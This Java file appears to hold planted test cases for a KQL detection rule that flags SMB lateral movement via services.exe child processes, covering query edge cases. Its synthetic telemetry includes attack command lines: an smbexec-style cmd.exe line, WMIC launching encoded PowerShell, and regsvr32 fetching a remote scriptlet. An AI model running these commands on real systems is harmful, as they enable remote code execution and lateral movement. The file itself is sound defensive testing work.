package dev.smbhunt.jobs.generate;

import static dev.smbhunt.transforms.smb.AlertColumns.REASON_BOTH;
import static dev.smbhunt.transforms.smb.AlertColumns.REASON_LOLBIN;
import static dev.smbhunt.transforms.smb.AlertColumns.REASON_RARE;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * The planted cases: each a labelled (connection, child) pair, or a few, that exercises one point
 * of docs/semantics.md. Times are milliseconds into the case's block, which starts on a whole
 * second; the sub-second parts are the point of the time cases.
 *
 * <p>Unless a case is about the certificate anti-join, a LOLBIN child has a certificate row in its
 * hour, so its expected reason is exactly {@code LOLBIN}. Every child hash belongs to its case
 * alone (except the prevalence pair, which shares one on purpose), so no other activity shifts a
 * case's counts.
 */
final class PlantedCases {
  private static final String SMBEXEC =
      " /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c"
          + " %TEMP%\\execute.bat & del %TEMP%\\execute.bat";

  private static final List<PlantedCase> ALL =
      List.of(
          PlantedCase.of(
              "lolbin-odd-case",
              "in~-ascii-case-folding",
              "CMD.EXE started 2 s after a services.exe inbound connection: `in~` folds ASCII case, so it is"
                  + " Cmd.exe of the LOLBIN list (docs/semantics.md: string comparison and nulls); its hash is certified, so LOLBIN only",
              ctx -> {
                NetworkEvent c = ctx.connect(ctx.at(250));
                ProcessEvent p =
                    ctx.startCertified(
                        ctx.at(2_250), ctx.windowsBinary("CMD.EXE"), "CMD.EXE" + SMBEXEC);
                ctx.expectAlert(REASON_LOLBIN, c, p);
              }),
          PlantedCase.of(
              "lolbin-and-rare",
              "reason-both",
              "WMIC.EXE, a LOLBIN, whose hash has no certificate row in the hour and one pair: it passes both"
                  + " `SHA1 in (rare)` and `FileName in~ (lolbins)` (docs/semantics.md: in (subquery), where and nulls)",
              ctx -> {
                NetworkEvent c = ctx.connect(ctx.at(400));
                ProcessEvent p =
                    ctx.start(
                        ctx.at(1_900),
                        ctx.windowsBinary("WMIC.EXE"),
                        "WMIC.EXE process call create \"powershell -enc SQBFAFgA\"");
                ctx.expectAlert(REASON_BOTH, c, p);
              }),
          PlantedCase.of(
              "rare-uncertified-sha1",
              "anti-join-uncertified",
              "A randomly named service binary, as psexec-like tools drop, whose SHA1 has no certificate row and"
                  + " fewer than 100 pairs in the hour: rare and uncertified (docs/semantics.md: leftanti, summarize count)",
              ctx -> {
                Image image = ctx.unsignedBinary("C:\\Windows", "kXq3Zp7w.exe");
                NetworkEvent c = ctx.connect(ctx.at(120));
                ProcessEvent p = ctx.start(ctx.at(1_480), image, "C:\\Windows\\kXq3Zp7w.exe");
                ctx.expectAlert(REASON_RARE, c, p);
              }),
          PlantedCase.of(
              "child-before-same-second",
              "datetime-diff-boundaries",
              "The child starts 0.7 s before the connection, in the same wall-clock second:"
                  + " datetime_diff(\"Second\", child, net) counts boundaries, 0, so it is kept (docs/semantics.md: datetime_diff)",
              ctx -> {
                NetworkEvent c = ctx.connect(ctx.at(800));
                ProcessEvent p =
                    ctx.startCertified(
                        ctx.at(100),
                        ctx.windowsBinary("rundll32.exe"),
                        "rundll32.exe C:\\Windows\\Temp\\svc.dll,Start");
                ctx.expectAlert(REASON_LOLBIN, c, p);
              }),
          PlantedCase.of(
              "child-before-previous-second",
              "datetime-diff-boundaries",
              "The child starts 0.3 s before the connection, in the previous wall-clock second:"
                  + " datetime_diff is -1, outside 0..10 (docs/semantics.md: datetime_diff)",
              ctx -> {
                NetworkEvent c = ctx.connect(ctx.at(1_200));
                ProcessEvent p =
                    ctx.startCertified(
                        ctx.at(900),
                        ctx.windowsBinary("rundll32.exe"),
                        "rundll32.exe C:\\Windows\\Temp\\svc.dll,Start");
                ctx.expectNoAlert(c, p);
              }),
          PlantedCase.of(
              "child-after-ten-boundaries",
              "datetime-diff-boundaries",
              "The child starts 10.9 s after the connection, crossing exactly 10 second boundaries"
                  + " (:00.050 -> :10.950): datetime_diff is 10, inside 0..10 (docs/semantics.md: datetime_diff)",
              ctx -> {
                NetworkEvent c = ctx.connect(ctx.at(50));
                ProcessEvent p =
                    ctx.startCertified(
                        ctx.at(10_950),
                        ctx.windowsBinary("regsvr32.exe"),
                        "regsvr32.exe /s /n /u /i:http://10.40.2.61/x.sct scrobj.dll");
                ctx.expectAlert(REASON_LOLBIN, c, p);
              }),
          PlantedCase.of(
              "child-after-eleven-boundaries",
              "datetime-diff-boundaries",
              "The child starts 10.06 s after the connection but crosses 11 second boundaries"
                  + " (:00.950 -> :11.010): datetime_diff is 11, outside 0..10 (docs/semantics.md: datetime_diff)",
              ctx -> {
                NetworkEvent c = ctx.connect(ctx.at(950));
                ProcessEvent p =
                    ctx.startCertified(
                        ctx.at(11_010),
                        ctx.windowsBinary("regsvr32.exe"),
                        "regsvr32.exe /s /n /u /i:http://10.40.2.61/x.sct scrobj.dll");
                ctx.expectNoAlert(c, p);
              }),
          PlantedCase.of(
                  "boot-grace-within-60s",
                  "boot-grace",
                  "A connection 30.4 s after services.exe started (a reboot): datetime_diff(net, services start)"
                      + " is 30, not > 60 (docs/semantics.md: datetime_diff)",
                  ctx -> {
                    NetworkEvent c = ctx.connect(ctx.at(35_400));
                    ProcessEvent p =
                        ctx.startCertified(
                            ctx.at(37_400), ctx.windowsBinary("cmd.exe"), "cmd.exe" + SMBEXEC);
                    ctx.expectNoAlert(c, p);
                  })
              .withReboot(2_000, 5_000),
          PlantedCase.of(
                  "boot-grace-61-boundaries",
                  "boot-grace",
                  "A connection 60.2 s after services.exe started, crossing 61 second boundaries (:05.900 ->"
                      + " +1:06.100): datetime_diff is 61 > 60 (docs/semantics.md: datetime_diff)",
                  ctx -> {
                    NetworkEvent c = ctx.connect(ctx.at(66_100));
                    ProcessEvent p =
                        ctx.startCertified(
                            ctx.at(68_100), ctx.windowsBinary("cmd.exe"), "cmd.exe" + SMBEXEC);
                    ctx.expectAlert(REASON_LOLBIN, c, p);
                  })
              .withReboot(2_000, 5_900),
          PlantedCase.of(
                  "boot-grace-60-boundaries",
                  "boot-grace",
                  "A connection 60.2 s after services.exe started, crossing only 60 second boundaries (:05.100 ->"
                      + " +1:05.300): datetime_diff is 60, not > 60 (docs/semantics.md: datetime_diff)",
                  ctx -> {
                    NetworkEvent c = ctx.connect(ctx.at(65_300));
                    ProcessEvent p =
                        ctx.startCertified(
                            ctx.at(67_300), ctx.windowsBinary("cmd.exe"), "cmd.exe" + SMBEXEC);
                    ctx.expectNoAlert(c, p);
                  })
              .withReboot(2_000, 5_100),
          PlantedCase.of(
              "join-key-case-mismatch",
              "join-key-case-sensitive",
              "The connection says services.exe, the child's parent Services.exe: both pass their `in~`/`=~`"
                  + " filters, but the join key compares with ==, case-sensitively (docs/semantics.md: join keys)",
              ctx -> {
                NetworkEvent c = ctx.connect(ctx.at(300));
                RunningProcess parent = renamed(ctx.services(ctx.at(2_300)), "Services.exe");
                ProcessEvent p =
                    ctx.start(
                        ctx.at(2_300), ctx.windowsBinary("cmd.exe"), "cmd.exe" + SMBEXEC, parent);
                ctx.checkCertificate(p.process().image(), ctx.at(2_300));
                ctx.expectNoAlert(c, p);
              }),
          PlantedCase.of(
              "join-key-case-both-upper",
              "join-key-case-sensitive",
              "Both sides say SERVICES.EXE: `in~`/`=~` accept it, and the case-sensitive join key matches"
                  + " (docs/semantics.md: join keys)",
              ctx -> {
                RunningProcess scm = renamed(ctx.services(ctx.at(300)), "SERVICES.EXE");
                NetworkEvent c =
                    ctx.connect(ctx.at(300), NetworkEvent.INBOUND_CONNECTION_ACCEPTED, scm);
                ProcessEvent p =
                    ctx.start(
                        ctx.at(2_300), ctx.windowsBinary("cmd.exe"), "cmd.exe" + SMBEXEC, scm);
                ctx.checkCertificate(p.process().image(), ctx.at(2_300));
                ctx.expectAlert(REASON_LOLBIN, c, p);
              }),
          PlantedCase.of(
              "action-type-wrong-case",
              "equals-case-sensitive",
              "ActionType inboundconnectionaccepted: `==` is case-sensitive, so the connection is not one of"
                  + " the rule's network events (docs/semantics.md: string comparison and nulls)",
              ctx -> {
                NetworkEvent c =
                    ctx.connect(
                        ctx.at(300), "inboundconnectionaccepted", ctx.services(ctx.at(300)));
                ProcessEvent p =
                    ctx.startCertified(
                        ctx.at(2_300), ctx.windowsBinary("cmd.exe"), "cmd.exe" + SMBEXEC);
                ctx.expectNoAlert(c, p);
              }),
          PlantedCase.of(
              "msiexec-exact-excluded",
              "msiexec-whole-string",
              "Command line MSIEXEC.EXE /v: `!~ \"msiexec.exe /V\"` is a whole-string, case-insensitive"
                  + " compare, and this is that string, so the LOLBIN is excluded (docs/semantics.md: string comparison and nulls)",
              ctx -> {
                NetworkEvent c = ctx.connect(ctx.at(600));
                ProcessEvent p =
                    ctx.startCertified(
                        ctx.at(1_700), ctx.windowsBinary("msiexec.exe"), "MSIEXEC.EXE /v");
                ctx.expectNoAlert(c, p);
              }),
          PlantedCase.of(
              "msiexec-full-path-kept",
              "msiexec-whole-string",
              "Command line C:\\Windows\\system32\\msiexec.exe /V is not the excluded string as a whole, so it is"
                  + " kept; Msiexec.exe is a LOLBIN (docs/semantics.md: string comparison and nulls)",
              ctx -> {
                NetworkEvent c = ctx.connect(ctx.at(600));
                ProcessEvent p =
                    ctx.startCertified(
                        ctx.at(1_700),
                        ctx.windowsBinary("msiexec.exe"),
                        ScmClusters.MSIEXEC_SERVICE_COMMAND_LINE);
                ctx.expectAlert(REASON_LOLBIN, c, p);
              }),
          PlantedCase.of(
              "null-command-line-lolbin",
              "null-string-is-empty",
              "ProcessCommandLine is null: KQL strings are never null, it reads \"\", and \"\" !~ \"msiexec.exe"
                  + " /V\" is true, so the LOLBIN sc.exe is kept (docs/semantics.md: string comparison and nulls)",
              ctx -> {
                NetworkEvent c = ctx.connect(ctx.at(200));
                ProcessEvent p =
                    ctx.startCertified(ctx.at(3_200), ctx.windowsBinary("sc.exe"), null);
                ctx.expectAlert(REASON_LOLBIN, c, p);
              }),
          PlantedCase.of(
              "null-sha1-rare",
              "null-string-is-empty",
              "SHA1 is null and the name is no LOLBIN: it reads \"\", \"\" is a group of its own with no"
                  + " certificate row, so it is rare and uncertified (docs/semantics.md: string comparison and nulls, leftanti, summarize count)",
              ctx -> {
                Image image =
                    ctx.unsignedBinary("C:\\ProgramData\\UpdSvc", "updsvc.exe").unhashed();
                NetworkEvent c = ctx.connect(ctx.at(700));
                ProcessEvent p =
                    ctx.start(ctx.at(2_100), image, "C:\\ProgramData\\UpdSvc\\updsvc.exe -service");
                ctx.expectAlert(REASON_RARE, c, p);
              }),
          PlantedCase.of(
              "certified-same-hour",
              "anti-join-window",
              "A signed non-LOLBIN service whose hash has a certificate row in the same hour: the anti-join"
                  + " removes it (docs/semantics.md: leftanti)",
              ctx -> {
                Image image =
                    ctx.signedBinary(
                        "C:\\Program Files\\Contoso\\Agent", "ContosoAgentSvc.exe", Signer.CONTOSO);
                NetworkEvent c = ctx.connect(ctx.at(500));
                ProcessEvent p =
                    ctx.start(ctx.at(2_500), image, "\"" + image.folderPath() + "\" -service");
                ctx.certificateAt(image, ctx.at(9_000));
                ctx.expectNoAlert(c, p);
              }),
          PlantedCase.of(
              "certified-other-hour",
              "anti-join-window",
              "The same kind of signed service, but its only certificate row is an hour earlier: each run's"
                  + " anti-join sees only its own hour, so the hash is uncertified there (docs/semantics.md: leftanti, the hourly schedule, the certificate window)",
              ctx -> {
                Image image =
                    ctx.signedBinary(
                        "C:\\Program Files\\Contoso\\Agent", "ContosoAgentSvc.exe", Signer.CONTOSO);
                NetworkEvent c = ctx.connect(ctx.at(500));
                ProcessEvent p =
                    ctx.start(ctx.at(2_500), image, "\"" + image.folderPath() + "\" -service");
                ctx.certificateAt(image, ctx.at(-3_590_000));
                ctx.expectAlert(REASON_RARE, c, p);
              }),
          PlantedCase.of(
                  "prevalence-100-pairs",
                  "prevalence-counts-pairs",
                  "A busy server: 10 connections x 10 children of one uncertified non-LOLBIN hash, all within 0..10 s,"
                      + " make 100 joined pairs in the hour; count_ < 100 fails, so none alerts (docs/semantics.md: inner join rows, summarize count)",
                  ctx -> plantPairGrid(ctx, 10, 10, 500, false))
              .onServer()
              .sharingHash("fab-backup"),
          PlantedCase.of(
                  "prevalence-99-pairs",
                  "prevalence-counts-pairs",
                  "The same hash in another hour: 9 connections x 11 children make 99 pairs, count_ < 100, so every"
                      + " pair alerts as rare and uncertified (docs/semantics.md: inner join rows, summarize count)",
                  ctx -> plantPairGrid(ctx, 9, 11, 400, true))
              .onServer()
              .sharingHash("fab-backup"),
          PlantedCase.of(
              "null-services-start-time",
              "null-datetime",
              "The child's InitiatingProcessCreationTime is null: datetime_diff(net, null) is null and the"
                  + " boot-grace `where` drops the pair (docs/semantics.md: datetime_diff, null datetime_diff)",
              ctx -> {
                NetworkEvent c = ctx.connect(ctx.at(300));
                RunningProcess parent = ctx.services(ctx.at(2_300)).withCreationTime(null);
                ProcessEvent p =
                    ctx.start(
                        ctx.at(2_300), ctx.windowsBinary("cmd.exe"), "cmd.exe" + SMBEXEC, parent);
                ctx.checkCertificate(p.process().image(), ctx.at(2_300));
                ctx.expectNoAlert(c, p);
              }),
          PlantedCase.of(
                  "hour-straddle",
                  "hour-straddle",
                  "Connection at hh:59:58, child at hh+1:00:02: each hourly run sees only one of the two, so the"
                      + " rule never pairs them (docs/semantics.md: the hourly schedule)",
                  ctx -> {
                    NetworkEvent c = ctx.connect(ctx.at(298_000));
                    ProcessEvent p =
                        ctx.startCertified(
                            ctx.at(302_000), ctx.windowsBinary("cmd.exe"), "cmd.exe" + SMBEXEC);
                    ctx.expectNoAlert(c, p);
                  })
              .atMinute(55),
          PlantedCase.of(
              "kelvin-sign-name",
              "ascii-only-case-folding",
              "FileName Ma\u212Aecab.exe with a KELVIN SIGN: `in~` folds ASCII letters only, so it is not"
                  + " Makecab.exe; its hash is certified, so no alert (docs/semantics.md: string comparison and nulls, non-ASCII letters)",
              ctx -> {
                NetworkEvent c = ctx.connect(ctx.at(300));
                ProcessEvent p =
                    ctx.startCertified(
                        ctx.at(1_300),
                        ctx.windowsBinary("Ma\u212Aecab.exe"),
                        "Ma\u212Aecab.exe /f C:\\Windows\\Temp\\dump.ddf");
                ctx.expectNoAlert(c, p);
              }),
          PlantedCase.of(
                  "other-services-instance",
                  "join-key-pid",
                  "After a reboot, the connection is accepted by the new services.exe while the child is attributed"
                      + " to the previous run's PID: the join on InitiatingProcessId does not pair them"
                      + " (docs/semantics.md: inner join)",
                  ctx -> {
                    NetworkEvent c = ctx.connect(ctx.at(300_000));
                    RunningProcess previous = ctx.previousServices(ctx.at(300_000));
                    ProcessEvent p =
                        ctx.start(
                            ctx.at(302_000),
                            ctx.windowsBinary("cmd.exe"),
                            "cmd.exe" + SMBEXEC,
                            previous);
                    ctx.checkCertificate(p.process().image(), ctx.at(302_000));
                    ctx.expectNoAlert(c, p);
                  })
              .withReboot(2_000, 5_000),
          PlantedCase.of(
              "pair-multiplication",
              "inner-join-pairs",
              "Two connections 4 s apart and one child 6 s after the first: kind=inner keeps both pairs,"
                  + " so the one child gives two result rows (docs/semantics.md: inner join rows)",
              ctx -> {
                NetworkEvent first = ctx.connect(ctx.at(200));
                NetworkEvent second = ctx.connect(ctx.at(4_200));
                ProcessEvent p =
                    ctx.startCertified(
                        ctx.at(6_000), ctx.windowsBinary("cmd.exe"), "cmd.exe" + SMBEXEC);
                ctx.expectAlert(REASON_LOLBIN, first, p);
                ctx.expectAlert(REASON_LOLBIN, second, p);
              }));

  private static final Map<String, PlantedCase> BY_ID = new LinkedHashMap<>();

  static {
    for (PlantedCase c : ALL) {
      if (BY_ID.put(c.caseId(), c) != null) {
        throw new IllegalStateException("duplicate case id " + c.caseId());
      }
    }
  }

  private PlantedCases() {}

  static List<PlantedCase> all() {
    return ALL;
  }

  static PlantedCase byId(String caseId) {
    PlantedCase c = BY_ID.get(caseId);
    if (c == null) {
      throw new IllegalArgumentException("no planted case " + caseId);
    }
    return c;
  }

  /**
   * {@code connections} connections in the block's first second and {@code children} children from
   * 1.5 s on, every {@code childStepMillis}: every connection pairs with every child.
   */
  private static void plantPairGrid(
      CaseContext ctx, int connections, int children, long childStepMillis, boolean alert) {
    Image image =
        ctx.sharedUnsignedBinary(
            "fab-backup", "C:\\Program Files\\Fabrikam\\Backup", "FabBackupWorker.exe");
    NetworkEvent[] cs = new NetworkEvent[connections];
    for (int i = 0; i < connections; i++) {
      cs[i] = ctx.connect(ctx.at(50 + 100L * i));
    }
    for (int j = 0; j < children; j++) {
      long t = ctx.at(1_500 + childStepMillis * j);
      ProcessEvent p =
          ctx.start(t, image, "\"" + image.folderPath() + "\" --job incremental --slot " + j);
      for (NetworkEvent c : cs) {
        if (alert) {
          ctx.expectAlert(REASON_RARE, c, p);
        } else {
          ctx.expectNoAlert(c, p);
        }
      }
    }
  }

  /** services.exe reported under another spelling of its name. */
  private static RunningProcess renamed(RunningProcess scm, String name) {
    return scm.withImage(scm.image().renamed(name));
  }
}
